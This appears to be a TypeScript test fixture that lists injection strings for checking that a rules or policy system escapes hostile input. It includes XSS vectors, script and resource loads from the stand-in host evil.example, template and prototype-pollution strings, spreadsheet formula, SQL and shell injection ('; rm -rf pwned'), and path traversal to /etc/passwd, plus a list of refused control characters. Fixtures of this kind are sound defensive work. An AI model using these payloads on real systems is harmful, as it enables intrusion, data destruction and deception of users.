// Texts that do harm where text is taken for markup, code, a template, an address, a formula or a format. Each tries to set
// `pwned`, to open a dialog, to fetch something, or to change what a reader sees. `refused` holds what may not stand in a policy at all.

/** What they try to run. */
export const run = "pwned=1";

export const payloads = [
  // Elements and handlers.
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${run}</script>`, `<scr<script>ipt>${run}</script>`,
  `</script><script>${run}</script>`, `</style><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</template><script>${run}</script>`,
  `--><script>${run}</script>`, `]]><script>${run}</script>`, `<!--><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`, `</select><script>${run}</script>`,
  `<img src=x onerror=${run}>`, `<IMG SRC=x OnErRoR=${run}>`, `<img/src=x/onerror=${run}>`, `<img src=//evil.example/p.png>`, `<img srcset="//evil.example/p.png 1x">`,
  `<image src=x onerror=${run}>`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><use href="//evil.example/s.svg#a"></use></svg>`, `<svg><foreignObject><body onload=${run}></foreignObject></svg>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`, `<math><mtext></table><img src=x onerror=${run}>`, `<body onload=${run}>`,
  `<body onpageshow=${run}>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src=//evil.example/></iframe>`, `<frameset onload=${run}>`,
  `<object data="javascript:${run}"></object>`, `<object data=//evil.example/o></object>`, `<embed src="javascript:${run}">`, `<embed src=//evil.example/e>`, `<portal src=//evil.example/></portal>`,
  `<video><source onerror=${run}></video>`, `<video src=x onerror=${run}></video>`, `<audio src=x onerror=${run}></audio>`, `<video poster=//evil.example/v.png></video>`, `<track src=//evil.example/t>`,
  `<details open ontoggle=${run}>`, `<marquee onstart=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`,
  `<button popovertarget=x onclick=${run}>press</button>`, `<div onpointerover=${run} style="position:fixed;inset:0">x</div>`, `<a href="javascript:${run}">press</a>`, `<a href="//evil.example/" ping="//evil.example/p">press</a>`, `<form action="//evil.example/"><button>send</button></form>`,
  `<isindex formaction="javascript:${run}">`, `<dialog open>Yes, you may.</dialog>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<x-y onanimationstart=${run} style="animation:a 1s">`, `<p style="background:url(//evil.example/b.png)">x`,
  `<style>@import "//evil.example/x.css";</style>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example/f>`, `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<h1>Yes</h1>`, `</h1></legend></fieldset></form><h1>Yes</h1>`, `</main><main id=main>`,
  // Out of an attribute.
  `" onfocus=${run} autofocus x="`, `' onfocus=${run} autofocus x='`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" style="display:none`, "`><img src=x onerror=" + run + ">", `x" href="javascript:${run}`, `x" id="main" name="main`,
  // Addresses.
  `javascript:${run}`, `JaVaScRiPt:${run}`, `javascript://x/%0a${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`, `//evil.example/`, `https://evil.example/?a=1&b=2#c`, `blob:https://evil.example/1`,
  `?pack=other&approved=everybody`, `../../../etc/passwd`, `%3Cscript%3E${run}%3C%2Fscript%3E`, `#change=AAAA`,
  // Entities and escapes that something could undo.
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `&#x3c;svg onload=${run}&#x3e;`, `&quot; onfocus=${run} &quot;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${run}\\x3e`, `&amp;lt;b&amp;gt;`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  // Templates and code.
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `[[${run}]]`, `{%raw%}${run}{%endraw%}`, `$(${run})`, "`" + run + "`", `'+(${run})+'`, `";${run};//`, `');${run};//`, `{"__proto__":{"pwned":1}}`, `__proto__`, `constructor`, `toString`, `%s%n%x%d`, `\\`, `"`, `'`, `\\"`,
  // Formulas, markdown, queries, terminals.
  `=HYPERLINK("//evil.example/","press")`, `+1+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, `![x](//evil.example/m.png)`, `[press](javascript:${run})`, `**Yes**`, `| a | b |`, `'; DROP TABLE rules; --`, `$(touch pwned)`, `; rm -rf pwned`, `[31mred[0m`,
  // Long words and many signs.
  "w".repeat(2000), "<".repeat(500), "&".repeat(500), `<b>${"x".repeat(600)}`, "wibble ".repeat(150).trim(), "😀".repeat(200),
];

export const refused = [
  "a\u0000b", "a\u0007b", "a\u001b[31mb", "a\u007fb", "a\tb\u0008", "a\u0085b", "a\u202eb", "a\u202db", "a\u2066b", "a\u2069b", "a\u200fb", "a\u061cb", "a\u200bb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u180eb",
  "a\ue000b", "a\uffffb", "a\u{e0041}b", "a\u2028b", "a\u2029b", "e\u0301a", "sm\u0430ll",
];
